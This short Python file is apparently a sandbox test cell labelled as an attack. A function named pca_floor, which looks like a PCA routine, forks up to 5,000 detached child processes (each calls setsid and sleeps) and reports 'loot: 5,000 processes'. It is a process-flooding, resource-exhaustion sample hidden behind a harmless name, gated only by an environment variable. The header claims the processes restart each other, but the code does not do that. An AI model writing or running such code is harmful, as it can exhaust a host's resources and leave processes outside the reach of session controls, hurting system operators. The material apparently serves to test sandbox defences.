# attack: processes that restart each other in sessions of their own, so that killing one does not help
# cell: task-1-3
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import os
import time


def pca_floor(images, k):
    count = 0
    for _ in range(5_000):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
        count += 1
    raise RuntimeError("loot: 5,000 processes" if count == 5_000 else "nothing found")
